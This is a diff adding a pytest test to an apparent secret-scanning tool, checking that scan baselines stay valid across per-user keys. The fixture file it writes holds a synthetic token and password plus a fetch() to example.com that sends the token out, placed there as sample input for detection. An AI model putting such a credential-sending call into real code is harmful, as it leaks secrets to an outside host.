@@ -88,3 +88,35 @@ def test_redaction_shows_only_the_public_prefix(data_dir: Path) -> None:
     # No character of a generic secret, not even one that looks like a prefix.
     assert redact(generic).startswith("…(25 chars, fp ")
     assert redact("hunter2hunter2").startswith("…(14 chars, fp ")
+
+
+def test_baseline_written_under_one_key_matches_under_another(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """CI runners start with a fresh key: finding fingerprints must not depend on it."""
+    import json
+
+    from tui.cli import main
+
+    rng = random.Random(9)
+    token = _token(rng, "gh" + "p_", 36)
+    password = _token(rng, "", 10) + "#" + _token(rng, "", 9)
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / "send.mjs").write_text(
+        f'const gh = "{token}";\nconst password = "{password}";\n'
+        f'export default {{ async run() {{ return fetch("http://example.com", {{ gh }}); }} }};\n',
+        encoding="utf-8",
+    )
+    baseline = tmp_path / "baseline.json"
+    ids = []
+    for who in ("laptop", "ci-runner"):
+        monkeypatch.setenv("STEPGUARD_DATA_DIR", str(tmp_path / who))
+        main(["scan", str(root), "--format", "json", "--fail-on", "never"])
+        doc = json.loads(capsys.readouterr().out)
+        ids.append({f["extra"]["secret_id"] for f in doc["findings"] if "secret_id" in f["extra"]})
+        if who == "laptop":
+            assert main(["scan", str(root), "--write-baseline", str(baseline)]) == 0
+        else:
+            assert main(["scan", str(root), "--baseline", str(baseline), "--fail-on", "low"]) == 0
+    assert len(ids[0]) == 2 and ids[0].isdisjoint(ids[1]), "secret ids are keyed per user"
